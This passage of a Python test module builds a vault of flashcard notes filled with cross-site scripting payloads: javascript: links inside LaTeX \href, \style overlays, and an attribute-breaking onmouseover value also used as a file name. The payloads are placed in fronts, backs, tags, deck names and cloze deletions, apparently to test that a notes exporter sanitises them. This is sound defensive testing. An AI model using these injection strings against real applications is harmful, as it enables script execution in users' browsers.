    "START\nBasic\nq\nBack: `{attack}`\n```js\n{attack}\n```\n~~~{attack}\nx\n~~~\nEND",
    "START\nBasic\nq\nBack: a\nTags: {attack}\nEND",
    "TARGET DECK\n{attack}\n\nSTART\nBasic\nq\nBack: a\nEND",
    "START\nCloze\n{{{{c1::{attack}}}}} {{{{c2::x::{attack}}}}}\nEND",
    "START\nCloze\n{{{{c1::a}}}} `{attack}` ![[Embedded{number}]]\nExtra: {attack}\nEND",
]
NAMES = [
    r"\(\href{javascript:x}{y}\)",
    r"$\style{position:fixed}{y}$",
    "a' onmouseover=window.pwned=1",
]


def attacks() -> list[str]:
    """Return the attacks by formula, raw HTML and cloze deletion, written out."""
    return [_fill(text) for text in (*FORMULAS, *RAW, *CLOZES, *MORE)]


def cloze_attacks() -> list[str]:
    """Return those with deletions, and links."""
    return [_fill(text) for text in (*CLOZES, *RAW) if "{{c" in text or "<a" in text]


def vault_files() -> dict[str, str]:
    """Return the notes of a vault that holds every attack in every place."""
    files = {
        "formulas.md": _notes(_basic(f"${_fill(tex)}$") for tex in FORMULAS),
        "display.md": _notes(_basic(f"\n$$\n{_fill(tex)}\n$$") for tex in FORMULAS),
        "raw.md": _notes(_basic(f"\n{_fill(html)}") for html in RAW),
        "more.md": _notes(
            f"START\nCloze\n{{{{c1::y}}}} {text} {{{{c2::{text}}}}}\nExtra:\n{text}\nEND"
            for text in map(_fill, MORE)
        ),
        "more fronts.md": _notes(f"START\nBasic\n{_fill(text)}\nBack: a\nEND" for text in MORE),
        "clozes.md": _notes(f"START\nCloze\n{_fill(text)}\nEND" for text in CLOZES),
        "pairs.md": _notes(_basic(f"${_fill(tex)}$") for pair in PAIRS for tex in pair),
        "halves.md": _notes(
            f"START\nBasic\n<div>a {one}</div>\nBack: <div>{two}</div>\nEND"
            for one, two in (
                (r"\(", rf"\href{{{RUN}}}{{x}}\)"),
                ("x\\", rf"(\href{{{RUN}}}{{x}}\)"),
                (rf"\(\href{{{RUN}}}", r"{x}\)"),
                (r"\(\text{", rf"\)}}\href{{{RUN}}}{{x}}\)"),
            )
        ),
    }
    for number, attack in enumerate(CORE):
        attack = _fill(attack)
        files[f"Embedded{number}.md"] = f"# h\n{attack}\n"
        for place, text in enumerate(PLACES):
            files[f"place {number} {place}.md"] = text.format(attack=attack, number=number)
    for number, name in enumerate(NAMES):
        files[f"{number} {name.replace('/', '')}.md"] = _basic("a name")
    return files


def _basic(back: str) -> str:
    return f"START\nBasic\nq\nBack: {back}\nEND"


def _notes(blocks: Iterator[str]) -> str:
    return "\n\n".join(blocks)


def _fill(text: str) -> str:
    return text.replace("JS", RUN).replace("CSS", COVER).replace("LONG", "a " * 80)
